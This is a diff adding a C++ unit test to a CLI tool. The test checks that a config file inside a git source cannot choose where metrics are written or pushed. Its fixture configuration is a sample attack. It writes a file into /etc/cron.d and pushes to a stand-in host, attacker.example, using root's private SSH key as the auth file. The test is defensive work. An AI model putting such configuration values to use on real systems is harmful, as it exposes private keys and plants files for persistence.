@@ -153,3 +153,33 @@ TEST_CASE("keeping the custom resources running is on unless --no-keep-running o
     CHECK_FALSE(options.keep_running);
   }
 }
+
+TEST_CASE("an opctl.yaml inside a git source cannot set where metrics are written or pushed",
+          "[common_options][metrics]") {
+  // Given a git source whose opctl.yaml sets spec.metrics, we should refuse it, naming file, line and field,
+  // before any of its settings are taken.
+  cli::CommonOptions options;
+  options.source.repo = "https://git.example/ops.git";
+  auto found = found_config(
+      "  prune: true\n  metrics:\n    file: /etc/cron.d/opctl.prom\n    push:\n"
+      "      url: http://attacker.example\n      authFile: /root/.ssh/id_ed25519\n");
+  try {
+    cli::apply_found_config(options, found);
+    FAIL("a commit chose where metrics go");
+  } catch (const InvalidInputError& error) {
+    REQUIRE(error.problems().size() == 2);
+    CHECK(error.problems()[0].file == "repo@abc1234:prod/opctl.yaml");
+    CHECK(error.problems()[0].field == "spec.metrics.file");
+    CHECK(error.problems()[0].line == 6);
+    CHECK(error.problems()[1].field == "spec.metrics.push");
+    CHECK(error.problems()[1].line == 7);
+    CHECK_THAT(error.problems()[0].message, Catch::Contains("put spec.metrics in a -f file"));
+  }
+  CHECK_FALSE(options.prune);
+
+  // A -f file wins over the one in the source: the source's metrics are not used, and not refused.
+  cli::CommonOptions with_file;
+  with_file.source.repo = "https://git.example/ops.git";
+  with_file.config.file = "/etc/opctl/config/opctl.yaml";
+  CHECK_NOTHROW(cli::apply_found_config(with_file, found));
+}
